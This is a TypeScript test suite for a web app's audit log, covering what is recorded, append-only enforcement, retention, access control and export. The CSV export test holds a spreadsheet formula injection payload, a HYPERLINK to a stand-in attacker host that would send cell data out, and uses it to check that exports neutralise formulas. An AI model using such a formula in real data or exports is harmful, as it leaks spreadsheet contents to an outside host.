import { setTimeout as sleep } from 'node:timers/promises'
import papaparse from 'papaparse'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { loadConfig } from '../../src/config.ts'
import { auditEntries } from '../../src/models/audit.ts'
import { forgetOldAudit } from '../../src/services/audit/retention.ts'
import { recordSettings } from '../../src/services/audit/settings.ts'
import { anApp, type SignedInUser, type TestApp } from '../support/app.ts'
import { clientOf } from '../support/client.ts'
import { upload } from '../support/uploads.ts'

let app: TestApp
let admin: SignedInUser
beforeAll(async () => {
  app = await anApp({ SHARE_LINKS: 'true' })
  admin = await app.anAdmin()
})
afterAll(() => app.stop())

interface Entry {
  id: number
  action: string
  [field: string]: unknown
}

const entries = async (query: string): Promise<Entry[]> => {
  const { status, body } = await admin.get(`/api/admin/audit?limit=200&${query}`)
  expect(status).toBe(200)
  return body.data.items
}
const actionsOf = async ({ id }: { id: number }) =>
  (await entries(`actor_id=${id}`)).map(({ action }) => action).reverse()

describe('what somebody did', () => {
  test('is recorded with who, by what, from where, and the trace of the request', async () => {
    const ada = await app.aUser()
    const made = await ada.request('POST', '/api/api-keys', {
      body: { name: 'for the script', scopes: ['read', 'write'] },
      headers: { 'user-agent': 'a test' },
    })
    const [entry] = await entries(`actor_id=${ada.id}&action=api_key.created`)
    const [signedIn] = await entries(`actor_id=${ada.id}&action=session.created`)
    expect(entry).toEqual({
      id: expect.any(Number),
      at: expect.stringMatching(/Z$/),
      actor_id: ada.id,
      actor_email: ada.email,
      credential: 'session',
      credential_id: Number(signedIn?.target_id),
      action: 'api_key.created',
      target_type: 'api_key',
      target_id: String(made.body.data.id),
      project_id: null,
      outcome: 'done',
      address: '127.0.0.1',
      user_agent: 'a test',
      trace_id: made.headers.get('x-trace-id'),
      details: { scopes: ['read', 'write'], expires_at: null },
    })
    const key = clientOf(app.url, made.body.data.key)
    await key.post('/api/projects', { name: 'By a key' })
    expect(await entries(`actor_id=${ada.id}&action=project.created`)).toMatchObject([
      { credential: 'api_key', credential_id: made.body.data.id },
    ])
  })

  test('covers accounts, keys, members, links, deletions and exports', async () => {
    const [ada, bob] = [await app.aUser(), await app.aUser()]
    const { id: key } = (await ada.post('/api/api-keys', { name: 'k', scopes: ['read'] })).body.data
    await ada.delete(`/api/api-keys/${key}`)
    const { id: project } = (await ada.post('/api/projects', { name: 'P' })).body.data
    await ada.patch(`/api/projects/${project}`, { name: 'Q' })
    await ada.post(`/api/projects/${project}/members`, { email: bob.email, role: 'viewer' })
    await ada.patch(`/api/projects/${project}/members/${bob.id}`, { role: 'editor' })
    await ada.delete(`/api/projects/${project}/members/${bob.id}`)
    const document = (await upload(ada, project, { name: 'a.txt', content: 'Some text.' })).body.data.id
    await ada.delete(`/api/projects/${project}/documents/${document}`)
    const { message } = (await ada.post('/api/chat', { message: 'Hello?' })).body.data
    const conversation = `/api/conversations/${message.conversation_id}`
    const exported = (await ada.get(`${conversation}/export?format=json`)).body
    await ada.post('/api/conversations/import', { project_id: project, conversation: exported })
    const { id: share } = (await ada.post(`${conversation}/shares`, {})).body.data
    await ada.delete(`${conversation}/shares/${share}`)
    await ada.delete(conversation)
    await ada.post('/api/auth/change-password', { current_password: 'wrong', new_password: 'another fine passphrase' })
    await ada.post('/api/auth/change-password', {
      current_password: ada.password,
      new_password: 'another fine passphrase',
    })
    await ada.delete(`/api/projects/${project}`)
    await ada.post('/api/auth/logout')
    expect(await actionsOf(ada)).toEqual([
      'session.created',
      'api_key.created',
      'api_key.revoked',
      'project.created',
      'project.updated',
      'member.added',
      'member.updated',
      'member.removed',
      'document.deleted',
      'conversation.exported',
      'conversation.imported',
      'share.created',
      'share.revoked',
      'conversation.deleted',
      'user.password_refused',
      'user.password_changed',
      'project.deleted',
      'session.ended',
    ])
    expect(await entries(`target_type=member&target_id=${bob.id}&action=member.updated`)).toMatchObject([
      { project_id: project, details: { role: 'viewer → editor' } },
    ])
  })

  test('covers what administrators do, and what was there before it', async () => {
    const ada = await app.aUser()
    await admin.patch(`/api/users/${ada.id}`, { role: 'admin', tier: 'enterprise' })
    await admin.patch(`/api/users/${ada.id}`, { is_active: false })
    const found = await entries(`actor_id=${admin.id}&target_type=user&target_id=${ada.id}`)
    expect(found.map(({ details }) => details)).toEqual([
      { is_active: 'true → false' },
      { role: 'user → admin', tier: 'pro → enterprise' },
    ])
    const server = await admin.post('/api/admin/mcp-servers', {
      name: 'tools',
      transport: 'http',
      url: 'https://mcp.example.org/',
      headers: { authorization: 'Bearer canary-of-a-server' },
    })
    await admin.patch(`/api/admin/mcp-servers/${server.body.data.id}`, { enabled: false })
    await admin.delete(`/api/admin/mcp-servers/${server.body.data.id}`)
    const actions = (await entries(`target_type=mcp_server&target_id=${server.body.data.id}`)).map(
      ({ action }) => action,
    )
    expect(actions).toEqual(['mcp_server.deleted', 'mcp_server.updated', 'mcp_server.created'])
  })

  test('covers settings that are others than at the last start', async () => {
    const start = (env: Record<string, string>) => recordSettings(app.database.db, loadConfig(env).settings)
    await start({ REGISTRATION: 'closed' })
    await start({ REGISTRATION: 'closed', PORT: '1', ROLE: 'worker' })
    expect(await entries('action=settings.changed')).toEqual([])
    await start({ REGISTRATION: 'open', METRICS_TOKEN: 'canary-token' })
    expect(await entries('action=settings.changed')).toMatchObject([
      { actor_id: null, details: { changed: ['METRICS_TOKEN', 'REGISTRATION'] } },
    ])
  })

  test('is not recorded when it did not happen', async () => {
    const ada = await app.aUser()
    const { id: project } = (await ada.post('/api/projects', { name: 'P' })).body.data
    expect((await ada.delete(`/api/projects/${project}/members/${ada.id}`)).status).toBe(409)
    expect(await actionsOf(ada)).toEqual(['session.created', 'project.created'])
  })

  test('keeps the id of somebody whose account is gone, and not the address', async () => {
    const ada = await app.aUser()
    await ada.delete('/api/users/me', { password: ada.password })
    expect(await entries(`actor_id=${ada.id}&action=user.deleted`)).toMatchObject([
      { actor_id: ada.id, actor_email: null, target_id: String(ada.id) },
    ])
    const { rows } = await app.database.pool.query('SELECT * FROM audit_entries')
    expect(JSON.stringify(rows)).not.toContain(ada.email)
  })
})

describe('a sign-in that is refused', () => {
  const signIn = (email: string, password: string) => app.post('/api/auth/login', { email, password })

  test('is recorded of the account, and of no account, without what was typed', async () => {
    const ada = await app.aUser()
    const refused = await signIn(ada.email, 'canary-of-a-typo')
    expect(await entries(`target_type=user&target_id=${ada.id}&action=user.sign_in_refused`)).toMatchObject([
      { actor_id: null, credential: null, outcome: 'refused', trace_id: refused.body.trace_id, address: '127.0.0.1' },
    ])
    const unknown = await signIn('canary-password-in-the-wrong-field', 'x')
    const [newest] = await entries('action=user.sign_in_refused')
    expect(newest).toMatchObject({ target_id: null, trace_id: unknown.body.trace_id, details: {} })
  })

  test('is recorded as throttled once, however often it is tried on', async () => {
    const fresh = await anApp()
    const ada = await fresh.aUser()
    for (let n = 0; n < 14; n++) await fresh.post('/api/auth/login', { email: ada.email, password: 'wrong' })
    const { rows } = await fresh.database.pool.query(
      `SELECT action, count(*)::int AS n FROM audit_entries WHERE target_type = 'user' AND outcome = 'refused' GROUP BY action ORDER BY action`,
    )
    expect(rows).toEqual([
      { action: 'user.sign_in_refused', n: 10 },
      { action: 'user.sign_in_throttled', n: 1 },
    ])
  })

  test('is recorded when a used refresh token ends its session', async () => {
    const ada = await app.aUser()
    for (let n = 0; n < 3; n++) await app.post('/api/auth/refresh', { refresh_token: ada.refreshToken })
    const found = await entries('action=session.token_reused')
    expect(found).toMatchObject([{ details: { user_id: ada.id }, outcome: 'refused' }])
  })
})

describe('the log', () => {
  test('is only added to, whoever asks the database', async () => {
    const { pool } = app.database
    for (const statement of [
      `UPDATE audit_entries SET details = '{}'`,
      'DELETE FROM audit_entries',
      'TRUNCATE audit_entries',
      // Not even by a retention that would take everything.
      `BEGIN; SET LOCAL groundwire.audit_retention_days = 0; DELETE FROM audit_entries; COMMIT`,
      `BEGIN; SET LOCAL groundwire.audit_retention_days = 36500; DELETE FROM audit_entries; COMMIT`,
    ]) {
      const client = await pool.connect()
      await expect(client.query(statement), statement).rejects.toThrow('the audit log is only added to')
      await client.query('ROLLBACK')
      client.release()
    }
  })

  test('forgets what is older than the retention, says so, and keeps the rest', async () => {
    const { db } = app.database
    const old = { action: 'session.created', targetType: 'session', outcome: 'done' } as const
    const daysAgo = (days: number) => new Date(Date.now() - days * 86_400_000)
    await db.insert(auditEntries).values([
      { ...old, at: daysAgo(31), targetId: 'old' },
      { ...old, at: daysAgo(29), targetId: 'young' },
    ])
    await forgetOldAudit(db, 0)
    expect(await entries('target_id=old')).toHaveLength(1)
    await forgetOldAudit(db, 30)
    expect(await entries('target_id=old')).toHaveLength(0)
    expect(await entries('target_id=young')).toHaveLength(1)
    expect(await entries('action=audit.expired')).toMatchObject([
      { actor_id: null, details: { entries: 1, retention_days: 30 } },
    ])
  })

  test('is for administrators, and for the operator', async () => {
    const ada = await app.aUser()
    const key = (await admin.post('/api/api-keys', { name: 'k', scopes: ['read', 'chat', 'write'] })).body.data.key
    for (const path of ['/api/admin/audit', '/api/admin/audit/export']) {
      expect((await ada.get(path)).status).toBe(403)
      expect((await clientOf(app.url, key).get(path)).status).toBe(403)
      expect((await app.get(path)).status).toBe(401)
      expect((await clientOf(app.url, app.operatorKey).get(path)).status).toBe(200)
    }
  })

  test('can be narrowed by time, and read in pages while it grows', async () => {
    const ada = await app.aUser()
    const since = new Date().toISOString()
    await sleep(5)
    for (let n = 0; n < 4; n++) await ada.post('/api/projects', { name: `P${n}` })
    const [all, first] = [
      await entries(`actor_id=${ada.id}&since=${since}`),
      await admin.get(`/api/admin/audit?limit=2&actor_id=${ada.id}&since=${since}`),
    ]
    expect(all.map(({ action }) => action)).toEqual(Array(4).fill('project.created'))
    await ada.post('/api/projects', { name: 'meanwhile' })
    const cursor = first.body.data.next_cursor
    const second = await admin.get(`/api/admin/audit?limit=2&actor_id=${ada.id}&since=${since}&cursor=${cursor}`)
    expect([...first.body.data.items, ...second.body.data.items]).toEqual(all)
    expect(await entries(`actor_id=${ada.id}&until=${since}`)).toMatchObject([{ action: 'session.created' }])
  })

  test.each([
    'action=no.such',
    'target_type=nothing',
    'since=yesterday',
    'since=2026-12-31T23:59:60Z',
    'actor_id=0',
    'cursor=x',
    'limit=0',
    'q=1',
  ])('refuses %s', async (query) => {
    expect((await admin.get(`/api/admin/audit?${query}`)).status).toBe(422)
  })

  test('is exported whole, as lines of JSON', async () => {
    const row = { action: 'job.retried', targetType: 'job', outcome: 'done' } as const
    await app.database.db
      .insert(auditEntries)
      .values(Array.from({ length: 2_100 }, (_, n) => ({ ...row, targetId: `j${n}` })))
    const response = await admin.raw('GET', '/api/admin/audit/export?format=ndjson&target_type=job')
    expect(response.headers.get('content-disposition')).toMatch(/attachment; filename="audit.ndjson"/)
    expect(response.headers.get('x-trace-id')).toMatch(/^[0-9a-f]{32}$/)
    const lines = (await response.text()).trim().split('\n')
    const exported: Entry[] = lines.map((line) => JSON.parse(line))
    expect(exported.map(({ target_id }) => target_id)).toEqual(Array.from({ length: 2_100 }, (_, n) => `j${2_099 - n}`))
    expect(exported.slice(0, 200)).toEqual(await entries('target_type=job'))
    expect(await entries('action=audit.exported')).toContainEqual(
      expect.objectContaining({ details: { format: 'ndjson', filters: ['target_type=job'] } }),
    )
  })

  test('is exported as CSV in which no cell is a formula', async () => {
    const agent = '=HYPERLINK("http://evil.example/?"&A1,"x"), "and a comma"'
    const ada = await app.aUser()
    await ada.request('POST', '/api/projects', { body: { name: 'P' }, headers: { 'user-agent': agent } })
    const csv = await (await admin.raw('GET', `/api/admin/audit/export?format=csv&actor_id=${ada.id}`)).text()
    const { data } = papaparse.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true })
    expect(data.map(({ action }) => action)).toEqual(['project.created', 'session.created'])
    expect(data[0]?.user_agent).toBe(`'${agent}`)
    expect(data[0]?.actor_id).toBe(String(ada.id))
  })

  test('has no password, token, key or text in it', async () => {
    const ada = await app.aUser({ email: 'canary-address@example.org' })
    const { id: project } = (await ada.post('/api/projects', { name: 'canary-name' })).body.data
    const { key } = (await ada.post('/api/api-keys', { name: 'canary-key-name', scopes: ['read'] })).body.data
    const file = { name: 'canary-file.txt', content: 'canary-text' }
    const document = (await upload(ada, project, file)).body.data.id
    const asked = await ada.post('/api/chat', { message: 'canary-question', project_id: project })
    const conversation = `/api/conversations/${asked.body.data.message.conversation_id}`
    await ada.patch(conversation, { title: 'canary-title' })
    const { token } = (await ada.post(`${conversation}/shares`, {})).body.data
    await ada.get(`${conversation}/export?format=md`)
    await ada.post('/api/agents', {
      project_id: project,
      slug: 'a',
      name: 'canary-agent',
      system_prompt: 'canary-prompt',
    })
    await ada.delete(`/api/projects/${project}/documents/${document}`)
    await ada.post('/api/auth/change-password', {
      current_password: 'canary-wrong',
      new_password: 'canary-new-passphrase',
    })
    await ada.delete(`/api/projects/${project}`)
    const { rows } = await app.database.pool.query("SELECT string_agg(t::text, E'\\n') AS all FROM audit_entries t")
    for (const secret of [
      'canary',
      key,
      key.slice(0, 8),
      token,
      ada.accessToken,
      ada.refreshToken,
      ada.password,
      'Bearer',
    ]) {
      expect(rows[0].all).not.toContain(secret)
    }
  })
})
